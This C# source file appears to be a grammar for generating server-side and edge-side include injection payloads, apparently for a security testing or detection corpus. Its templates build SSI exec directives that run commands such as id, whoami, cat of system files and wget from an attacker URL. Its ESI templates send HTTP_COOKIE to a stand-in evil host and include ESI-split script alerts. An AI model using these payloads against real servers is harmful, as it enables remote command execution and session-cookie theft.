namespace Weir.Http.Corpus.Attacks.Other;

/// <summary>Server-side and edge-side includes.</summary>
/// <remarks>OWASP WSTG-INPV-08, CAPEC-101, CWE-97; the directives of mod_include and of ESI 1.0.</remarks>
internal static class ServerIncludes
{
    public const string Text = """"
        §ssi
        5× «ssilead»<!--#exec cmd="«shellcmd»"«ssiend»
        2× <!--#exec cgi="«/cgi-bin/«rand».cgi¦«shellcmd»»"«ssiend»
        3× <!--#include «virtual¦file»="««unixfile»¦«../¦/»«word».«html¦log¦php»¦../../../../«unixfile→norootslash»»"«ssiend»
        5× «ssilead»<!--#echo var="«ssivar»«"¦"¦"¦»«ssiend»
        2× <!--#«flastmod¦fsize¦include» «virtual¦file»="«word».«html¦shtml¦txt¦asp¦cgi»«¦"»«ssiend»
        <!--#config «timefmt="%«A¦B¦D¦Y» %«B¦d¦H» «%Y¦%T¦»"¦sizefmt="«bytes¦abbrev»"¦errmsg="«word» «word»"¦echomsg="«word»"»«ssiend»
        <!--#include «virtual¦file»="«¦/¦../»«word»/«word».«html¦cgi¦inc»"«ssiend»
        <«pre¦b¦p»><!--#echo var="«ssivar»"«ssiend»«¦ »</«pre¦b¦p»>
        <!--#exec «cmd¦cgi»="«/bin/¦/usr/bin/¦»«ls /¦id¦dir¦whoami¦cat «unixfile»¦find / -name «word» -print¦uname -a¦wget «evilurl» -O «rand».txt»"«ssiend»«<br/>¦<br>¦»
        3× <!--#echo var="«DATE_LOCAL¦DOCUMENT_NAME¦DATE_GMT¦HTTP_USER_AGENT¦DOCUMENT_URI¦REMOTE_ADDR¦SERVER_SOFTWARE¦AUTH_TYPE¦PATH_TRANSLATED¦HTTP_COOKIE¦«rand→upper»»"«ssiend»
        <!--#printenv«ssiend»
        <!--#«config timefmt="%A"¦config errmsg="«rand»"¦fsize file="«unixfile»"¦flastmod file="«word».html"¦set var="«word»" value="`«shellcmd»`"¦if expr="$«rand» = 1"¦exec cmd='«shellcmd»'»«ssiend»
        <!--#exec cmd=«shellcmd»«ssiend»
        <!--# «exec cmd¦include virtual¦echo var»="«shellcmd»"«ssiend»
        <!--#«execlit→case» «cmdlit→case»="«shellcmd»"«ssiend»
        «ssicore→url»
        «word»<!--#exec cmd="«shellcmd»"«ssiend»«word»
        <pre><!--#exec cmd="«shellcmd»" --></pre>
        "><!--#exec cmd="«shellcmd»"«ssiend»<
        {"«param»":"<!--#exec cmd=\"«shellcmd→json»\" -->"}
        «param»=<!--#exec cmd="«shellcmd»"«ssiend»
        §ssivar
        3× http_«user_agent¦referer¦host¦accept¦accept_language¦accept_encoding¦cookie¦connection¦forwarded¦client_ip¦pragma¦from¦via¦«letter*3-8»»
        3× «server¦remote¦document¦script¦request¦query¦path¦gateway¦content¦auth¦date»_«name¦«portword»¦addr¦host¦user¦ident¦root¦uri¦url¦method¦string¦info¦translated¦type¦length¦local¦gmt¦protocol¦software¦interface»
        2× «ssivarlow→upper»
        «last_modified¦user_name¦unique_id¦all_http¦page_count¦total_hits¦site_htmlroot¦netsite_root¦«letter*4-9»_«letter*3-8»¦«letter*4-10»»
        §ssivarlow
        «server¦remote¦document¦script¦request¦query¦path¦http»_«name¦«portword»¦addr¦host¦user¦root¦uri¦method¦string¦info¦referer¦cookie»
        §portword
        port
        §execlit
        exec
        §cmdlit
        cmd
        §ssicore
        <!--#exec cmd="«shellcmd»" -->
        §ssilead
        6×
        "
        '>
        «word»
        §ssiend
        4× -->
        4× ␠-->
        >
        «¦--»
        §esi
        3× <esi:include src="««evilurl»¦http://«evilhost»/?«letter»=$(HTTP_COOKIE)¦http://127.0.0.1/«word»»"«¦ stylesheet="«evilurl»"¦ alt="«evilurl»" onerror="continue"»«/>¦ />¦>»
        2× <esi:vars>$(«HTTP_COOKIE¦HTTP_HOST¦HTTP_USER_AGENT¦QUERY_STRING»)</esi:vars>
        «word»<!--esi-->«word»
        <!--esi «$(HTTP_COOKIE)¦<esi:include src="«evilurl»"/>¦$add_header('Location','«evilurl»')¦/«rand»/» -->
        <esi:«assign name="«word»" value="'«<script>alert(1)</script>¦«rand»»'"¦debug¦remove¦try¦inline name="/«word».html" fetchable="yes"¦eval src="«evilurl»" dca="none"¦comment text="«rand»"¦invalidate»/>
        <scr<!--esi-->ipt>aler<!--esi-->t(1)</sc<!--esi-->ript>
        <esi:vars name="$(HTTP_COOKIE«{«word»}¦{'JSESSIONID'}»)"/>
        «esiinc→url»
        §esiinc
        <esi:include src="«evilurl»"/>
        """";
}
